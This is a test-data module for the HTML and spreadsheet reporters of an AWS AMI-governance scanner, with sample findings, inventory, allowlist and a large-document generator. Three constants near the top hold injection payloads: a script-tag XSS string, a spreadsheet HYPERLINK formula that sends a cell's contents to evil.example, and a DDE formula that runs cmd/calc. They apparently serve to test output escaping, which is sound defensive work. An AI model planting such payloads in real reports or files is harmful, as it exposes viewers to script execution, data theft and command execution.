/**
 * Test data for the reporters: a small but realistic FindingsDocument + Inventory (with a partial scan,
 * hostile AWS strings and an account id with a leading zero), and a generator of large documents.
 * Built here on purpose, independent of the rules engine.
 */
import { SEVERITIES, type Finding, type FindingsDocument, type RemediationCommand, type Severity } from '../../src/model/findings.ts';
import type { CoverageEntry, Inventory, Image, Instance } from '../../src/model/inventory.ts';
import type { ResolvedAllowlist } from '../../src/config/allowlist.ts';

export const HOSTILE_NAME = '<img src=x onerror="window.__xss=1">golden</script><script>window.__xss2=1</script>';
export const HOSTILE_TAG = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const HOSTILE_DESC = '+cmd|" /C calc"!A0';
export const LEADING_ZERO_ACCOUNT = '012345678901';

export const ACCOUNTS = [
  { accountId: '111111111111', name: 'ops-golden-images', ouPath: ['Root', 'Infrastructure'] },
  { accountId: LEADING_ZERO_ACCOUNT, name: 'payments-prod', ouPath: ['Root', 'Workloads', 'Prod'] },
  { accountId: '222222222222', name: 'analytics-dev', ouPath: ['Root', 'Workloads', 'Dev'] },
  { accountId: '333333333333', name: 'legacy-sandbox', ouPath: ['Root', 'Sandbox'] },
];
const REGIONS = ['us-east-1', 'eu-west-1'];

export function allowlist(overrides: Partial<ResolvedAllowlist> = {}): ResolvedAllowlist {
  return {
    asOf: '2026-11-23',
    enforcementMode: 'audit_mode',
    approvedProviders: ['111111111111', '999988887777', 'amazon'],
    publishers: [
      { accountId: '111111111111', kind: 'ops', label: 'Ops golden AMIs' },
      { accountId: '999988887777', kind: 'vendor', label: 'CIS hardened images' },
      { accountId: '444455556666', kind: 'exception', label: 'Data science GPU images', expiryDate: '2026-12-01', ticket: 'SEC-1234', daysLeft: 8 },
    ],
    aliases: ['amazon'],
    activeExceptions: [{ accountId: '444455556666', reason: 'Data science GPU images', expiryDate: '2026-12-01', ticket: 'SEC-1234', approvedBy: 'ciso@example.com', daysLeft: 8 }],
    expiredExceptions: [{ accountId: '777766665555', reason: 'Legacy vendor', expiryDate: '2026-10-31', ticket: 'SEC-1001', approvedBy: 'ciso@example.com', daysLeft: -23 }],
    expiringExceptions: [{ accountId: '444455556666', reason: 'Data science GPU images', expiryDate: '2026-12-01', ticket: 'SEC-1234', approvedBy: 'ciso@example.com', daysLeft: 8 }],
    warningDays: 14,
    exceptionRequestUrl: 'https://jira.example.com/servicedesk/ami-exception',
    approvedAmiTag: { key: 'Environment', values: ['Prod'] },
    production: { instanceTag: { key: 'Environment', values: ['Prod'] }, accountIds: [], ouIds: [] },
    ...overrides,
  };
}

export const RULES = [
  { id: 'unapproved-publisher', title: 'Instance runs an AMI from an unapproved publisher', severity: 'high' as Severity, description: 'A running or stopped instance whose AMI owner is not an approved publisher.', docs: 'docs/rules/unapproved-publisher.md' },
  { id: 'public-ami', title: 'Owned AMI is public', severity: 'critical' as Severity, description: 'An AMI owned by a scanned account is shared with everyone.', docs: 'docs/rules/public-ami.md' },
  { id: 'prod-ami-not-tagged', title: 'Production instance on an AMI without the approval tag', severity: 'medium' as Severity, description: 'A production instance whose AMI lacks Environment=Prod.', docs: 'docs/rules/prod-ami-not-tagged.md' },
  { id: 'expiring-exception', title: 'Instance relies on an exception that expires soon', severity: 'low' as Severity, description: 'The exception expires within the warning window.', docs: 'docs/rules/expiring-exception.md' },
  { id: 'image-block-public-access-off', title: 'Image block public access is off', severity: 'medium' as Severity, description: 'New public sharing of AMIs is not blocked.', docs: 'docs/rules/image-block-public-access-off.md' },
  { id: 'launch-template-unapproved-ami', title: 'Launch template launches an unapproved AMI', severity: 'high' as Severity, description: 'Scale-out from this template fails once Allowed AMIs is enabled.', docs: 'docs/rules/launch-template-unapproved-ami.md' },
  { id: 'unknown-image', title: 'Instance AMI cannot be identified', severity: 'info' as Severity, description: 'The AMI was deregistered or is no longer shared.', docs: 'docs/rules/unknown-image.md' },
];

function cmd(title: string, command: string, kind: RemediationCommand['kind'] = 'fix', needsReview = false): RemediationCommand {
  return { title, command, kind, ...(needsReview ? { needsReview } : {}) };
}

let seq = 0;
export function finding(p: Partial<Finding> & Pick<Finding, 'ruleId' | 'accountId' | 'region' | 'resourceId'>): Finding {
  const rule = RULES.find((r) => r.id === p.ruleId);
  const id = p.id ?? `f-${p.ruleId.slice(0, 6)}-${p.accountId.slice(-4)}-${p.region}-${p.resourceId}`;
  seq++;
  return {
    id,
    title: rule?.title ?? p.ruleId,
    severity: rule?.severity ?? 'info',
    status: 'fail',
    resourceType: 'instance',
    message: `${p.resourceId} in ${p.accountId} ${p.region}: ${rule?.title ?? p.ruleId}`,
    commands: [
      cmd('Find the approved replacement AMI', `aws ec2 describe-images --owners 111111111111 --region ${p.region} --query 'sort_by(Images,&CreationDate)[-1].ImageId'`, 'investigate'),
      cmd('Create a launch template version on the replacement', `aws ec2 create-launch-template-version --launch-template-id lt-0abc --source-version 1 --launch-template-data '{"ImageId":"ami-0new"}' --region ${p.region}`, 'fix', true),
    ],
    ...p,
  };
}

/** counts, impact and coverage summaries computed from the parts, as the rules engine does. */
export function assemble(parts: { findings: Finding[]; coverage: CoverageEntry[]; accounts?: typeof ACCOUNTS; allowlist?: ResolvedAllowlist; runId?: string }): FindingsDocument {
  const { findings, coverage } = parts;
  const byRule: Record<string, number> = {};
  const byAccount: Record<string, number> = {};
  const bySeverity = Object.fromEntries(SEVERITIES.map((s) => [s, 0])) as Record<Severity, number>;
  for (const f of findings) {
    byRule[f.ruleId] = (byRule[f.ruleId] ?? 0) + 1;
    byAccount[f.accountId] = (byAccount[f.accountId] ?? 0) + 1;
    bySeverity[f.severity]++;
  }
  const counts = { ok: 0, skipped: 0, 'access-denied': 0, error: 0 };
  for (const c of coverage) counts[c.status]++;
  const unapproved = findings.filter((f) => f.ruleId === 'unapproved-publisher');
  const runId = parts.runId ?? '2026-11-23T10-15-00Z-3f9c';
  return {
    schemaVersion: 1,
    kind: 'amigov.findings',
    run: {
      runId,
      toolVersion: '0.1.0',
      startedAt: '2026-11-23T10:15:00.000Z',
      finishedAt: '2026-11-23T10:17:42.000Z',
      asOf: '2026-11-23',
      configPath: 'config/ami_publishers.json',
      parameters: { regions: REGIONS },
      caller: { accountId: '111111111111', arn: 'arn:aws:iam::111111111111:role/amigov-scanner' },
      organization: { id: 'o-abc123def4', managementAccountId: '111111111111' },
      endpoint: null,
    },
    allowlist: parts.allowlist ?? allowlist(),
    rules: RULES,
    counts: { total: findings.length, byRule, bySeverity, byAccount },
    impact: {
      instancesAffected: new Set(unapproved.map((f) => f.resourceId)).size,
      accountsAffected: new Set(unapproved.map((f) => f.accountId)).size,
      launchTemplatesAffected: findings.filter((f) => f.ruleId === 'launch-template-unapproved-ami').length,
    },
    coverage: { entries: coverage, counts, complete: counts.error === 0 && counts['access-denied'] === 0 },
    accounts: parts.accounts ?? ACCOUNTS,
    findings,
  };
}

export function sampleCoverage(partial = true): CoverageEntry[] {
  const entries: CoverageEntry[] = [];
  for (const a of ACCOUNTS) {
    for (const region of REGIONS) {
      const denied = partial && a.accountId === '333333333333' && region === 'eu-west-1';
      entries.push(
        denied
          ? { accountId: a.accountId, region, status: 'access-denied', errorCode: 'UnauthorizedOperation', reason: 'The scan role may not call ec2:DescribeInstances here <check the SCP>' }
          : { accountId: a.accountId, region, status: 'ok', instancePath: 'describe-instances', durationMs: 1830, apiCalls: 7, ...(a.accountId === '222222222222' && region === 'eu-west-1' ? { degraded: { 'allowed-images-settings': 'GetAllowedImagesSettings is not supported in this region' } } : {}) },
      );
    }
  }
  return entries;
}

export function sampleFindings(): Finding[] {
  const P = LEADING_ZERO_ACCOUNT;
  return [
    finding({ ruleId: 'unapproved-publisher', accountId: P, region: 'us-east-1', resourceId: 'i-0a1b2c3d4e5f60001', imageId: 'ami-0aaa000000000001', imageName: HOSTILE_NAME, imageOwnerId: '555566667777', blockedBy: 'both', tags: { Name: 'payments-api-1', Environment: 'Prod', Team: HOSTILE_TAG }, message: `Instance runs ${HOSTILE_NAME} from 555566667777, not an approved publisher` }),
    finding({ ruleId: 'unapproved-publisher', accountId: P, region: 'eu-west-1', resourceId: 'i-0a1b2c3d4e5f60002', imageId: 'ami-0aaa000000000002', imageName: 'community-nginx-2026', imageOwnerId: '555566667777', blockedBy: 'declarative-policy' }),
    finding({ ruleId: 'unapproved-publisher', accountId: '222222222222', region: 'us-east-1', resourceId: 'i-0a1b2c3d4e5f60003', imageId: 'ami-0bbb000000000003', imageName: 'self-built-analytics', imageOwnerId: '222222222222', blockedBy: 'scp', details: { note: 'Allowed AMIs never restricts AMIs the account owns itself' } }),
    finding({ ruleId: 'public-ami', accountId: '111111111111', region: 'us-east-1', resourceType: 'image', resourceId: 'ami-0ccc000000000004', imageId: 'ami-0ccc000000000004', imageName: 'golden-al2023-2026.11', commands: [cmd('Make the AMI private', 'aws ec2 modify-image-attribute --image-id ami-0ccc000000000004 --launch-permission "Remove=[{Group=all}]" --region us-east-1'), cmd('Verify', "aws ec2 describe-images --image-ids ami-0ccc000000000004 --region us-east-1 --query 'Images[].Public'", 'verify')] }),
    finding({ ruleId: 'prod-ami-not-tagged', accountId: P, region: 'us-east-1', resourceId: 'i-0a1b2c3d4e5f60005', imageId: 'ami-0ccc000000000005', imageName: 'golden-al2023-2026.10', imageOwnerId: '111111111111', tags: { Environment: 'Prod' } }),
    finding({ ruleId: 'prod-ami-not-tagged', accountId: P, region: 'eu-west-1', resourceId: 'i-0a1b2c3d4e5f60006', status: 'cannot-verify', severity: 'low', imageId: 'ami-0ddd000000000006', imageOwnerId: '999988887777', message: 'AMI tags are not visible: owner 999988887777 is outside the scanned accounts' }),
    finding({ ruleId: 'expiring-exception', accountId: '222222222222', region: 'us-east-1', resourceId: 'i-0a1b2c3d4e5f60007', imageId: 'ami-0eee000000000007', imageOwnerId: '444455556666', details: { expiryDate: '2026-12-01', daysLeft: 8, ticket: 'SEC-1234' } }),
    finding({ ruleId: 'image-block-public-access-off', accountId: '222222222222', region: 'eu-west-1', resourceType: 'account-region', resourceId: '222222222222/eu-west-1', commands: [cmd('Block new public sharing', 'aws ec2 enable-image-block-public-access --image-block-public-access-state block-new-sharing --region eu-west-1')] }),
    finding({ ruleId: 'launch-template-unapproved-ami', accountId: '333333333333', region: 'us-east-1', resourceType: 'launch-template', resourceId: 'lt-0f0f0f0f0f0f0f0f0', imageId: 'ami-0aaa000000000002', imageOwnerId: '555566667777' }),
    finding({ ruleId: 'unknown-image', accountId: '333333333333', region: 'us-east-1', resourceId: 'i-0a1b2c3d4e5f60010', imageId: 'ami-0fff000000000010', commands: [] }),
  ];
}

export function sampleDoc(opts: { partial?: boolean } = {}): FindingsDocument {
  return assemble({ findings: sampleFindings(), coverage: sampleCoverage(opts.partial ?? true) });
}

function image(p: Partial<Image> & Pick<Image, 'imageId' | 'region' | 'ownerId'>): Image {
  return { tags: {}, tagsVisible: true, seenVia: 'owner', seenFromAccountId: p.ownerId!, found: true, state: 'available', public: false, creationDate: '2026-10-01T08:00:00.000Z', ...p };
}

function instance(p: Partial<Instance> & Pick<Instance, 'accountId' | 'region' | 'instanceId'> & { imageId: string; ownerId?: string }): Instance {
  const { imageId, ownerId, ...rest } = p;
  return { state: 'running', instanceType: 't3.medium', launchTime: '2026-11-01T12:30:00.000Z', tags: {}, image: { imageId, source: 'describe-images', ...(ownerId ? { ownerId } : {}) }, ...rest };
}

export function sampleInventory(doc: FindingsDocument): Inventory {
  const P = LEADING_ZERO_ACCOUNT;
  return {
    schemaVersion: 1,
    kind: 'amigov.inventory',
    run: doc.run,
    allowlist: doc.allowlist,
    accounts: ACCOUNTS.map((a) => ({ ...a, ouIds: ['r-ab12'], access: 'assumed-role' as const })),
    coverage: doc.coverage.entries,
    instances: [
      instance({ accountId: P, region: 'us-east-1', instanceId: 'i-0a1b2c3d4e5f60001', imageId: 'ami-0aaa000000000001', ownerId: '555566667777', tags: { Name: 'payments-api-1', Environment: 'Prod', Team: HOSTILE_TAG } }),
      instance({ accountId: P, region: 'eu-west-1', instanceId: 'i-0a1b2c3d4e5f60002', imageId: 'ami-0aaa000000000002', ownerId: '555566667777', tags: { Name: HOSTILE_TAG } }),
      instance({ accountId: '222222222222', region: 'us-east-1', instanceId: 'i-0a1b2c3d4e5f60003', imageId: 'ami-0bbb000000000003', ownerId: '222222222222', state: 'stopped' }),
      instance({ accountId: P, region: 'us-east-1', instanceId: 'i-0a1b2c3d4e5f60005', imageId: 'ami-0ccc000000000005', ownerId: '111111111111', tags: { Environment: 'Prod' } }),
      instance({ accountId: '111111111111', region: 'us-east-1', instanceId: 'i-0a1b2c3d4e5f60099', imageId: 'ami-0ccc000000000004', ownerId: '111111111111' }),
    ],
    images: [
      image({ imageId: 'ami-0ccc000000000004', region: 'us-east-1', ownerId: '111111111111', name: 'golden-al2023-2026.11', public: true, tags: { Environment: 'Prod' } }),
      image({ imageId: 'ami-0ccc000000000005', region: 'us-east-1', ownerId: '111111111111', name: 'golden-al2023-2026.10', tags: { Owner: HOSTILE_TAG }, description: HOSTILE_DESC }),
      image({ imageId: 'ami-0bbb000000000003', region: 'us-east-1', ownerId: '222222222222', name: 'self-built-analytics' }),
      image({ imageId: 'ami-0aaa000000000001', region: 'us-east-1', ownerId: '555566667777', name: HOSTILE_NAME, seenVia: 'reference', tagsVisible: false, seenFromAccountId: P }),
      image({ imageId: 'ami-0p0p000000000009', region: 'eu-west-1', ownerId: P, name: 'payments-custom', public: true }),
    ],
    launchTemplates: [],
    regionSettings: [],
    stats: { durationMs: 162_000, apiCalls: { 'ec2:DescribeInstances': 8 }, apiCallsTotal: 56, retries: 0, throttled: 0, accountsTotal: 4, accountRegionsTotal: 8 },
  };
}

const BIG_RULES = RULES.map((r) => r.id);

/** A large synthetic document: n findings over 60 accounts and 4 regions, deterministic. */
export function bigDoc(n: number, commandsPerFinding = 2): FindingsDocument {
  const accounts = Array.from({ length: 60 }, (_, i) => ({ accountId: String(100000000000 + i * 1111).padStart(12, '0'), name: `workload-${String(i).padStart(2, '0')}`, ouPath: ['Root', i % 2 ? 'Prod' : 'Dev'] }));
  const regions = ['us-east-1', 'us-west-2', 'eu-west-1', 'ap-southeast-2'];
  const findings: Finding[] = [];
  for (let i = 0; i < n; i++) {
    const a = accounts[(i * 7) % accounts.length]!;
    const region = regions[i % regions.length]!;
    const ruleId = BIG_RULES[i % BIG_RULES.length]!;
    const hex = i.toString(16).padStart(17, '0');
    const f = finding({ id: `f${hex}`, ruleId, accountId: a.accountId, accountName: a.name, region, resourceId: `i-${hex}`, imageId: `ami-${hex}`, imageName: `image-${i % 997}`, imageOwnerId: '555566667777', tags: { Name: `node-${i}`, Environment: i % 3 ? 'Dev' : 'Prod' } });
    f.commands = f.commands.slice(0, commandsPerFinding);
    findings.push(f);
  }
  const coverage: CoverageEntry[] = accounts.flatMap((a) => regions.map((region) => ({ accountId: a.accountId, region, status: 'ok' as const })));
  return assemble({ findings, coverage, accounts });
}
